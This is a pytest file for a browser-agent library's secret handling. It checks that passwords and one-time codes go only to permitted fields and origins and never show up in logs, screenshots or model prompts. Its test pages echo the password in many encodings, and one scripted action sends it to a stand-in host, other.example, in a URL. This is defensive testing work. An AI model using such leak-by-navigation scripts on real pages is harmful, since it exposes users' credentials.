"""Secrets: where they may be entered, and that nothing gives them away."""

from __future__ import annotations

import base64
import html
import json
import pickle
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from playwright.async_api import Page
from werkzeug import Request, Response

import planact
from planact.browser import Browser, Session
from planact.browser.actions import read_call
from planact.browser.bounds.permissions import Permissions, Rule
from planact.browser.bounds.permissions import Request as Asked
from planact.browser.bounds.secrets import Secret, Secrets, one_time_code
from planact.errors import ActionError, EnvironmentFailure, UsageError
from planact.llm.scripted import ScriptedModel
from planact.types import Message, Observation, Step
from planact.viewer import render
from support.command import fails
from support.site import Site

VALUE = 'Sw0rd&fish "9/é+'
CLEAR = "hunter-twenty2"
SEED = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"

# How a page shows what was entered, each way in a line that begins with its number: scripts that
# give HTML of `v`, of `h` (escaped) and of `n`, the number and a space.
WAYS = [
    "`<p>${n}${h}</p>`",
    "`<h2>${n}${h}</h2>`",
    "`<p>${n}<b>${h.slice(0, 3)}</b><i>${h.slice(3)}</i></p>`",
    "`<ul><li>${n}${h}</li></ul>`",
    "`<table><tr><td>${n}${h}<td>b</table>`",
    "`<button>${n}${h}</button>`",
    "`<button aria-label='${n}${h}'>x</button>`",
    "`<input type=submit value='${n}${h}'>`",
    "`<a href='/?p=${encodeURIComponent(v)}'>${n}${h}</a>`",
    "`<img alt='${n}${h}' src=data:, width=9 height=9>`",
    "`<img title='${n}${h}' src=data:, width=9 height=9>`",
    "`<input placeholder='${n}${h}'>`",
    "`<input aria-label='field' value='${n}${h}'>`",
    "`<textarea aria-label='text'>${n}${h}</textarea>`",
    "`<div contenteditable>${n}${h}</div>`",
    "`<select aria-label='list'><option>${n}${h}<option>b</select>`",
    "`<select aria-label='several' multiple><option>${n}${h}<option>b</select>`",
    "`<select aria-label='groups'><optgroup label='${n}${h}'><option>b</select>`",
    "`<input list=l${+n} aria-label=l><datalist id=l${+n}><option>${n}${h}</datalist>`",
    "`<label>${n}${h} <input type=checkbox></label>`",
    "`<fieldset><legend>${n}${h}</legend><button>b</button></fieldset>`",
    "`<div role=alert>${n}${h}</div>`",
    "`<div role=status>${n}${h}</div>`",
    "`<details open><summary>${n}${h}</summary>b</details>`",
    "`<div role=slider tabindex=0 aria-valuenow=1 aria-valuetext='${n}${h}'>s</div>`",
    "`<input aria-invalid=true aria-label=i aria-errormessage=e${+n}><u id=e${+n}>${n}${h}</u>`",
    "`<div role=tree><div role=treeitem tabindex=0>${n}${h}</div></div>`",
    "`<svg width=200 height=20><text y=15>${n}${h}</text></svg>`",
    "`<style>.c::before { content: '${n}' attr(title) }</style><p class=c title='${h}'></p>`",
    "`<pre>${n}${h}</pre>`",
    "`<p>${n}${h.replaceAll(' ', '&nbsp;')}</p>`",
    "`<p>${n}x${h}y</p>`",
    "`<p>${n}${h.slice(0, 20)}…</p>`",
    "`<iframe srcdoc='<p>${n}${h.replaceAll('&', '&amp;')}</p>'></iframe>`",
    "`<div class=open>${n}${h}</div>`",
    "`<div class=closed>${n}${h}</div>`",
    "`<div role=textbox tabindex=0 aria-label='${n}${h}'></div>`",
    "`<p>${n}${encodeURIComponent(v)}</p>`",
    "`<p>${n}${encodeURI(v)}</p>`",
    "`<p>${n}${encodeURIComponent(encodeURIComponent(v))}</p>`",
    "`<p>${n}${new URLSearchParams({p: v})}</p>`",
    "`<p>${n}${escaped(JSON.stringify(v))}</p>`",
    "`<p>${n}${escaped(JSON.stringify(JSON.stringify(v)))}</p>`",
    "`<p>${n}${escaped(h)}</p>`",
    "`<p>${n}${h.replace('é', '&amp;#xE9;').replace('+', '&amp;#43;')}</p>`",
    "`<p>${n}${b64(v)}</p>`",
    "`<p>${n}Basic ${b64('ann:' + v)}</p>`",
    "`<p>${n}${b64('to ' + v + ' go').replaceAll('+', '-').replaceAll('/', '_')}</p>`",
    "`<p>${n}${[...new TextEncoder().encode(v)].map(b => b.toString(16)).join('')}</p>`",
]
# What a click on a button makes the page do with it, and what the agent does then.
DEEDS = {
    "title": ("document.title = v", []),
    "query": ("history.pushState(0, '', '?p=' + encodeURIComponent(v))", []),
    "path": ("history.pushState(0, '', '/x/' + encodeURIComponent(v) + '/y')", []),
    "fragment": ("location.hash = v", []),
    "form": ("history.pushState(0, '', '?' + new URLSearchParams({p: v}))", []),
    "alert": ("alert('You typed ' + v)", []),
    "confirm": ("confirm('Is it ' + v)", ["click(N OK)"]),
    "prompt": ("prompt('Not ' + v + '?', v)", ["click(N Cancel)"]),
    "download": (
        "save.download = v.replace('/', '') + '.txt'; save.click()",
        ['upload(N Pick, "x")'],
    ),
    "blocked": ("location = 'http://other.example/?p=' + encodeURIComponent(v)", []),
    "covered": ("over.style.display = 'block'; over.ariaLabel = v", ["click(N Under)"]),
    "list": ("sizes.options[0].text = v", ['select(N Sizes, "none")']),
    "stubborn": ("stubborn.value = v", ['fill(N Stubborn, "other")']),
    "changed": ("changing.dataset.v = v", ['fill(N Changing, "other")']),
    "own answer": ("0", ['press("<secret:shop>")', 'goto("/?<secret:shop>")']),
    "pop-up": ("window.open('/pop?' + encodeURIComponent(v))", ["switch_tab(1)"]),
    "show": ("p.type = 'text'", []),
}
SCRIPT = """
const escaped = t => t.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const b64 = t => btoa(String.fromCharCode(...new TextEncoder().encode(t)));
const attach = (e, mode) => { e.attachShadow({mode}).innerHTML = `<p>${e.innerHTML}</p>`; };
"""
PASSWORD = '<label>Password <input id="p" type="password"></label>'
SHOWING = f"""<!doctype html><title>Shows</title>{PASSWORD}<div id=all></div><script>{SCRIPT}
p.oninput = () => {{
  const v = p.value, h = escaped(v);
  all.innerHTML = WAYS.map((way, i) => `<div>${{way(i + ' ', v, h)}}</div>`).join('');
  document.querySelectorAll('.open, .closed').forEach(e => attach(e, e.className));
}};
const WAYS = [{",".join(f"(n, v, h) => {way}" for way in WAYS)}];
</script>"""
BUTTONS = "".join(
    f'<button onclick="{html.escape(f"const v = p.value; {js}")}">{name}</button>'
    for name, (js, _) in DEEDS.items()
)
DOING = f"""<!doctype html><title>Does</title>{PASSWORD}{BUTTONS}
<a id=save href="data:text/plain,x"></a><input type=file aria-label=Pick>
<div style="position: relative; width: 200px"><button>Under</button>
<div id=over role=img style="display: none; position: absolute; inset: 0"></div></div>
<select id=sizes aria-label=Sizes><option>S<option>M</select>
<input id=stubborn aria-label=Stubborn oninput="this.value = p.value">
<input id=changing aria-label=Changing oninput="this.value = this.dataset.v || this.value">
"""
FIELDS = """<!doctype html><title>Fields</title><label>Password <input id=p type=password></label>
<label>User <input></label><label>Code <input autocomplete="one-time-code"></label>
<label>Listens <input type=password onkeyup="this.title = 'heard'"></label>
<label>Short <input type=password maxlength=10></label>
<form>DIGITS</form><iframe src="FOREIGN/frame"></iframe>
<iframe sandbox="allow-scripts" srcdoc="<label>Boxed <input type=password></label>"></iframe>
<iframe srcdoc="<label>Inner <input type=password></label>"></iframe>
""".replace("DIGITS", "".join(f'<input aria-label="Digit {n}" maxlength="1">' for n in range(6)))


def answer(request: Request) -> Response:
    pages = {
        "/shows": SHOWING,
        "/does": DOING,
        "/fields": FIELDS.replace("FOREIGN", f"http://127.0.0.1:{request.server[1]}"),
        "/frame": "<label>Theirs <input type=password></label>",
    }
    return Response(pages.get(request.path, "<p>Else"), mimetype="text/html")


@pytest.fixture(scope="module")
def shop() -> Iterator[Site]:
    with Site(answer) as site:
        yield site


def secrets(shop: Site, **more: dict[str, Any]) -> Secrets:
    named: dict[str, dict[str, Any]] = {"shop": {"value": VALUE}, **more}
    return Secrets(Secret(**{"name": n, "origins": [shop.url], **s}) for n, s in named.items())


def gives_away(text: str, value: str = VALUE) -> bool:
    """Whether the text has the value in it, as it is or encoded."""
    encoded = value.encode()
    forms = [value, quote(value), quote(value, safe=""), quote_plus(value), quote(quote(value))]
    forms += [json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1]]
    forms += [html.escape(value), encoded.hex(), value[:10]]
    forms += [base64.b64encode(b" " * n + encoded).decode()[4:-4] for n in range(3)]
    return any(form in text for form in forms)


def number(page: Observation, name: str) -> int:
    return {e.name: e.number for e in page.elements}[name]


async def fill(session: Session, name: str, text: str) -> Observation:
    page = await session.observe()
    await session.act(read_call(f"fill({number(page, name)}, {json.dumps(text)})"), page)
    return await session.observe()


def numbered(action: str, prompt: str) -> str:
    """The action on the element that it names, `N Name` for its number, as the prompt has it."""
    name = re.search(r"N ([\w -]+)", action)
    if not name:
        return action
    found = re.findall(rf'\[(\d+)\] \w+ "{name[1]}', prompt)
    return action.replace(name[0], found[-1] if found else "0")


class Seen:
    """An episode with all that came of it: events, what the model was sent, what was kept."""

    def __init__(self, out: Path) -> None:
        self.out, self.events = out, list[Any]()

    async def run(self, browser: Browser, url: str, goal: str, *actions: str, **more: Any) -> None:
        asked = iter([*actions, 'exit("It is done")'])

        def reply(messages: list[Message]) -> str:
            return f"Reasoning: r\nAction: {numbered(next(asked), messages[-1].content)}"

        self.model = ScriptedModel(reply)
        self.result = await planact.arun(
            goal,
            url,
            browser=browser,
            planner=None,
            executor=self.model,
            budget=planact.Budget(steps=60),
            on_event=self.events.append,
            out=self.out,
            screens=True,
            exchanges=True,
            **more,
        )
        render(self.out)

    @property
    def steps(self) -> list[Step]:
        return [event for event in self.events if isinstance(event, Step)]

    def everything(self) -> Iterator[str]:
        yield repr(self.result)
        yield from map(repr, self.events)
        for file in self.out.rglob("*"):
            yield file.name
            if file.is_file():
                yield file.read_text("utf-8", errors="replace")

    def sent(self) -> Iterator[str]:
        yield from (message.content for asked in self.model.seen for message in asked)


async def covered(page: Page, png: Path, selector: str) -> bool:
    """Whether the elements are black in the picture."""
    return bool(
        await page.evaluate(
            """async ([png, selector]) => {
              const image = new Image(); image.src = png; await image.decode();
              const canvas = document.createElement('canvas');
              Object.assign(canvas, {width: 1280, height: 720});
              const context = canvas.getContext('2d'); context.drawImage(image, 0, 0);
              return [...document.querySelectorAll(selector)].every(e => {
                const {x, y, width, height} = e.getBoundingClientRect();
                const {data} = context.getImageData(x + 2, y + 2, width - 4, height - 4);
                return data.every((value, i) => i % 4 === 3 ? value === 255 : value === 0); }) }""",
            [f"data:image/png;base64,{base64.b64encode(png.read_bytes()).decode()}", selector],
        )
    )


# ---------------------------------------------------------------- nothing gives them away


async def test_no_page_gives_a_secret_away(
    browser: Browser, shop: Site, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert len(WAYS) + len(DEEDS) >= 60
    goal = "Sign in with <secret:shop>"
    entering = 'fill(N Password, "<secret:shop>")'
    shown = Seen(tmp_path / "shown")
    await shown.run(browser, f"{shop.url}/shows", goal, entering, secrets=secrets(shop))
    page = shown.result.trajectory.last
    assert page is not None
    for n, way in enumerate(WAYS):
        said = re.search(rf'(?:^|[ "]){n} [^|\n]*<secret:shop>', page.text, re.M)
        assert said, f"{way}: {page.text}"
    done = Seen(tmp_path / "done")
    clicks = [act for name, (_, then) in DEEDS.items() for act in (f"click(N {name})", *then)]
    await done.run(browser, f"{shop.url}/does", goal, entering, *clicks, secrets=secrets(shop))
    told = [step.error + "".join(step.observation.messages) for step in done.steps]
    for said in ("Dialog:", "Downloaded:", "Blocked:", "covered by", "no option", "now holds"):
        assert any("<secret:shop>" in text for text in told if said in text), (said, told)
    assert sum("<secret:shop>" in s.observation.url for s in done.steps) >= 4
    for seen in (shown, done):
        assert seen.result.done
        assert not [text for text in (*seen.everything(), *seen.sent()) if gives_away(text)]
    assert not gives_away("".join(capfd.readouterr()))


async def test_what_is_typed_in_the_clear_is_kept_by_nobody(
    browser: Browser, shop: Site, tmp_path: Path
) -> None:
    seen = Seen(tmp_path / "run")
    entering = f'fill(N Password, "{CLEAR}")'
    goal = f"Sign in as ann with {CLEAR}"
    await seen.run(browser, f"{shop.url}/shows", goal, entering, entering, entering)
    assert not [text for text in seen.everything() if CLEAR in text]
    assert seen.result.trajectory.goal == "Sign in as ann with <secret>"
    assert 'fill textbox "Password" "<secret>"' in seen.model.seen[-1][-1].content
    assert "was done on this very page before" in seen.steps[2].error
    short = Seen(tmp_path / "short")
    await short.run(browser, f"{shop.url}/fields", "Sign in", 'fill(N Password, "ab1")')
    assert not [text for text in short.everything() if '"ab1' in text]


async def test_screenshots_show_none(browser: Browser, shop: Site, tmp_path: Path) -> None:
    async with browser.open(f"{shop.url}/fields", secrets=secrets(shop)) as session:
        await fill(session, "Password", "<secret:shop>")
        await session.page.evaluate(
            """() => { p.type = 'text'; const v = p.value;
            const said = '<div class=s><b></b><i></i></div><input class=s>';
            document.body.insertAdjacentHTML('afterbegin', said);
            const [box, field] = document.querySelectorAll('.s');
            box.firstChild.textContent = v.slice(0, 4); box.lastChild.textContent = v.slice(4);
            field.value = v;
            window.before = document.documentElement.outerHTML }"""
        )
        await session.screenshot(tmp_path / "1.png")
        page = session.page
        assert await covered(page, tmp_path / "1.png", "#p, .s b, .s i, input.s, [type=password]")
        assert not await covered(page, tmp_path / "1.png", "[autocomplete]")
        a, b = await page.evaluate("[document.documentElement.outerHTML, window.before]")
        assert a == b


# ---------------------------------------------------------------- where they go


async def test_a_secret_goes_where_it_belongs(browser: Browser, shop: Site) -> None:
    named = secrets(
        shop,
        code={"totp": SEED, "fields": "code"},
        any={"value": "any-thing", "fields": "any"},
        far={"value": "far-away", "origins": ["https://localhost"]},
    )
    opened = browser.open(f"{shop.url}/fields", secrets=named, allowed_origins=["*"])
    async with opened as session:
        for name, text, says in [
            ("Password", "<secret:far>", "<secret:far> is not entered on http://localhost:"),
            ("Password", "<secret:none>", "no <secret:none>, only: <secret:shop>, <secret:code>"),
            ("Password", "my <secret:shop>", "nothing else"),
            ("User", "<secret:shop>", "into password fields only"),
            ("Code", "<secret:shop>", "into password fields only"),
            ("User", "<secret:code>", "into password fields and fields for codes only"),
            ("Theirs", "<secret:shop>", "not entered on http://127.0.0.1"),
            ("Boxed", "<secret:any>", "not entered on null"),
        ]:
            with pytest.raises(ActionError, match=re.escape(says)):
                await fill(session, name, text)
        held = "[...document.querySelectorAll('input')].map(e => e.value).join('')"
        assert await session.page.evaluate(held) == ""
        for name, text in [
            ("Password", "shop"), ("Inner", "shop"), ("Listens", "shop"), ("Code", "code"),
            ("User", "any"),
        ]:  # fmt: skip
            page = await fill(session, name, f"<secret:{text}>")
            assert f'textbox "{name}" (filled)' in page.text
        assert await session.page.evaluate("p.value") == VALUE
        assert await session.page.evaluate("document.querySelector('[title=heard]') !== null")
        page = await fill(session, "Short", "<secret:shop>")
        assert "took only a part of the text: 10 characters" in page.messages[0]
        page = await session.observe()
        user = number(page, "User")
        for action in ('press("<secret:shop>")', f'select({user}, "<secret:shop>")'):
            with pytest.raises(ActionError):
                await session.act(read_call(action), page)


async def test_permissions_hold_for_secrets(browser: Browser, shop: Site, tmp_path: Path) -> None:
    asked: list[str] = []

    async def confirm(request: Asked) -> bool:
        asked.append(repr(request))
        return False

    permissions = Permissions(rules=(Rule(ask=("secret", "leave")),))
    opened = browser.open(
        f"{shop.url}/does",
        secrets=secrets(shop),
        permissions=permissions,
        confirm=confirm,
        allowed_origins=["*"],
    )
    async with opened as session:
        for text in ("<secret:shop>", CLEAR):
            with pytest.raises(ActionError, match='Not permitted: "secret"'):
                await fill(session, "Password", text)
        session.secrets.keep(VALUE)
        await session.page.evaluate(f"p.value = {json.dumps(VALUE)}")
        page = await session.observe()
        await session.act(read_call(f"click({number(page, 'blocked')})"), page)
        await session.observe()
    assert len(asked) == 3 and "'leave'" in asked[-1]
    assert not any(map(gives_away, asked))


async def test_a_code_in_boxes_is_not_shown(browser: Browser, shop: Site) -> None:
    named = secrets(shop, code={"totp": SEED, "fields": "any"})
    async with browser.open(f"{shop.url}/fields", secrets=named) as session:
        await session.page.evaluate(
            """document.querySelectorAll('[maxlength="1"]').forEach(e =>
            e.oninput = () => e.nextSibling?.focus())"""
        )
        page = await fill(session, "Digit 0", "<secret:code>")
        digits = await session.page.evaluate(
            """[...document.querySelectorAll('[maxlength="1"]')].map(e => e.value)"""
        )
        assert re.fullmatch(r"\d{6}", "".join(digits))
        assert all(f'textbox "Digit {n}" (filled)' in page.text for n in range(6))


async def test_a_failure_of_a_site_does_not_tell(browser: Browser, shop: Site) -> None:
    dead = f"http://localhost:1/?p={quote(VALUE)}"
    with pytest.raises(EnvironmentFailure, match="<secret:shop>") as failure:
        async with browser.open(dead, secrets=secrets(shop)):
            pass
    assert not gives_away(str(failure.value))


async def test_a_goal_with_an_unknown_secret_starts_nothing(shop: Site, tmp_path: Path) -> None:
    for goal in ("Use <secret:shop>", "Use <secret:a b>"):
        with pytest.raises(UsageError, match="no secret is called"):
            await planact.arun(goal, shop.url, planner=None, out=tmp_path / "run")
        with pytest.raises(UsageError, match="no secret is called"):
            tasks = [planact.task(goal, shop.url)]
            await planact.arun_tasks(tasks, tmp_path / "run", planner=None)
    assert not (tmp_path / "run").exists()


# ---------------------------------------------------------------- the file


def written(folder: Path, text: str) -> Path:
    file = folder / "secrets.yaml"
    file.touch(mode=0o600)
    file.write_text(text, encoding="utf-8")
    return file


def test_secrets_of_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_PASSWORD", VALUE)
    file = written(tmp_path, "a: {env: SHOP_PASSWORD, origins: [https://a.example]}\n")
    file.chmod(0o644)  # it holds none itself
    read = pickle.loads(pickle.dumps(Secrets.read(file)))
    assert read.named["a"].value_for("https://a.example", "password") == VALUE
    assert not gives_away(repr(read.named)) and read.hide(f"<{VALUE}>") == "<<secret:a>>"


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("a: [", "is no YAML, line 1"),
        ("a: {value: 'Sw0rd\nb: x", "is no YAML"),
        ("just Sw0rd", "does not say what each secret is"),
        ("a: Sw0rd", "does not say what each secret is"),
        ("a: {Sw0rd, origins: [https://a.example]}", "a: it says too much"),
        ("a: {value: 77777777, origins: [https://a.example]}", "a: value: "),
        ("a: {value: Sw0rd}", "a: origins: Field required"),
        ("a b: {value: Sw0rd, origins: [https://a.example]}", "a b: name: "),
        ("a: {value: Sw0rd, env: X, origins: [https://a.example]}", "a has not one source"),
        ("a: {origins: [https://a.example]}", "a has not one source"),
        ("a: {value: Sw0rd, origins: [a.example]}", "a has an origin that is none"),
        ("a: {value: Sw0rd, origins: [https://a.example/x]}", "a has an origin that is none"),
        ("a: {env: NOT_SET_AT_ALL, origins: [https://a.example]}", "Set the variable NOT_SET"),
        ("a: {totp: Sw0rd, origins: [https://a.example]}", "a has a totp that is no base32"),
        ("a: {value: Sw0rd, fields: all, origins: [https://a.example]}", "a: fields: "),
        ("a: {keyring: bank/ann, origins: [https://a.example]}", "keyring"),
    ],
)
def test_a_wrong_file_is_told_without_a_value(tmp_path: Path, text: str, says: str) -> None:
    with pytest.raises(UsageError) as error:
        Secrets.read(written(tmp_path, text))
    said = str(error.value)
    assert says in said and "\n" not in said
    assert "Sw0rd" not in said and "7777" not in said
    assert error.value.__cause__ is None


def test_the_command_line_names_what_is_wrong(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    file = written(tmp_path, "a: {value: Sw0rd, origins: [https://a.example]}")
    file.chmod(0o640)
    run = ("run", "Go", "--url", "http://localhost:1", "--out", str(tmp_path / "run"))
    assert "chmod 600" in fails(capsys, 2, *run, "--secrets", str(file))
    assert "cannot be read" in fails(capsys, 2, *run, "--secrets", str(tmp_path / "none"))
    assert "no log-in is called ann" in fails(capsys, 2, *run, "--login", "ann")
    monkeypatch.delenv("DISPLAY", raising=False)
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    said = fails(capsys, 3, "login", "https://a.example", "--as", "ann")
    assert "there is no display" in said
    assert "cannot be a log-in's name" in fails(capsys, 2, "login", "https://a.e", "--as", "../a")


# ---------------------------------------------------------------- hiding


@pytest.mark.parametrize(
    ("at", "code"),
    [
        (59, "94287082"),
        (1111111109, "07081804"),
        (1111111111, "14050471"),
        (1234567890, "89005924"),
        (2000000000, "69279037"),
        (20000000000, "65353130"),
    ],
)
def test_one_time_codes_are_those_of_the_rfc(at: int, code: str) -> None:
    assert one_time_code(SEED, at) == code[-6:]  # RFC 6238, appendix B, has eight digits


def test_short_values_are_hidden_where_they_were_entered() -> None:
    origin = ("https://a.example",)
    known = Secrets([Secret(name="pin", value="4711", origins=origin)])
    known.keep("ab")
    assert known.hide('pin 4711, id 147110, ?p=%204711, "ab" about') == (
        'pin <secret:pin>, id 147110, ?p=%20<secret:pin>, "<secret>" about'
    )
    assert known.hidden(read_call('fill(1, "ab")')).args == (1, "<secret>")
